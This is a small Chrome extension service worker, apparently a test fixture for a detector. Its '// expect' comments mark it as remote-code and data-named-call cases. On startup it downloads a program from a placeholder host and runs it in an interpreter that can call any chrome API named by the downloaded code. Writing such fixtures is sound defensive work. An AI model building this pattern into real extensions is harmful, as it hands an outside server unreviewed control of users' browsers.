importScripts('interpreter.js');
chrome.runtime.onStartup.addListener(async () => {
  const answer = await fetch('https://jobs.reader-mode.example/next');
  const program = await answer.text();
  // expect: remote-code
  const machine = new Interpreter(program, (interpreter, scope) => {
    // expect: named-by-data
    interpreter.setProperty(scope, 'call', interpreter.createNativeFunction((name, ...args) => chrome[name](...args)));
  });
  machine.run();
});
